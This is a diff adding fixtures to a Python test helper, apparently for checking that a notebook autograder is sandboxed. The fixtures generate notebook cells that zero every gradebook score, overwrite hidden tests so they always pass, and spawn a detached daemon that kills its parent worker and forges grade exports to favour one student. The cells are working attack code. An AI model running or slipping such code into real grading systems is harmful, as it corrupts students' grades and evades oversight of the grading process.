@@ -245,3 +245,89 @@ def write_notebook(path: Path, cells: list[str], **kwargs) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
     path.write_text(json.dumps(notebook_json(cells, **kwargs), indent=1))
     return path
+
+
+# -- attacks on the trusted side's files, for a grader running without a sandbox ------------------
+# Each takes the folders the attack searches (see as_user.OrdinaryUser.attack_roots) and returns a
+# cell that does its damage when the notebook runs; the rest of the notebook is correct code.
+
+def zero_every_gradebook(roots: list[str]) -> str:
+    """Set every score of every gradebook.sqlite it can find to zero."""
+    return f"""\
+import os, sqlite3
+for root in {roots!r}:
+    for folder, _, files in os.walk(root):
+        if 'gradebook.sqlite' in files:
+            try:
+                db = sqlite3.connect(os.path.join(folder, 'gradebook.sqlite'), timeout=5)
+                db.execute('UPDATE submissions SET score = 0')
+                db.execute('UPDATE results SET points = 0')
+                db.commit()
+                db.close()
+            except Exception:
+                pass
+"""
+
+
+def rewrite_hidden_tests(roots: list[str], name: str = "test_00_fake.py") -> str:
+    """Replace every hidden-test file called ``name`` with tests that pass whatever the code does."""
+    return f"""\
+import os
+for root in {roots!r}:
+    for folder, _, files in os.walk(root):
+        if {name!r} in files:
+            try:
+                with open(os.path.join(folder, {name!r}), 'w') as f:
+                    f.write('from vitcourse.grading.hidden import points\\n'
+                            'EXERCISE = "00_fake"\\n'
+                            '@points(7)\\n'
+                            'def test_everything(student):\\n'
+                            '    \"\"\"Everything passes.\"\"\"\\n')
+            except OSError:
+                pass
+"""
+
+
+def daemon_rewrites_exports(roots: list[str], me: str, suffix: str = "grades.csv",
+                            seconds: int = 120) -> str:
+    """Leave a daemon behind (double fork, new session), after killing the worker template that
+    would otherwise collect it. For ``seconds`` it rewrites every file whose name ends with
+    ``suffix`` (grades.csv, or .json for the results files) each time one appears or changes:
+    ``me`` gets full marks, everybody else zero."""
+    return f"""\
+import os, signal, time, json
+
+def forge(path, text):
+    if path.endswith('.csv'):
+        rows = [line.split(',') for line in text.splitlines()]
+        for row in rows[1:]:
+            row[2] = row[3] if row[0] == {me!r} else '0'
+        return '\\n'.join(','.join(row) for row in rows) + '\\n'
+    data = json.loads(text)
+    data['score'] = 0
+    return json.dumps(data)
+
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        seen = {{}}
+        end = time.time() + {seconds}
+        while time.time() < end:
+            for root in {roots!r}:
+                for folder, _, files in os.walk(root):
+                    for name in files:
+                        path = os.path.join(folder, name)
+                        try:
+                            if not name.endswith({suffix!r}) or seen.get(path) == os.stat(path).st_mtime_ns:
+                                continue
+                            forged = forge(path, open(path).read())
+                            with open(path, 'w') as f:
+                                f.write(forged)
+                            seen[path] = os.stat(path).st_mtime_ns
+                        except Exception:
+                            pass
+            time.sleep(0.1)
+    os._exit(0)
+time.sleep(0.2)
+os.kill(os.getppid(), signal.SIGKILL)  # the worker template: what it leaves is no longer its own
+"""
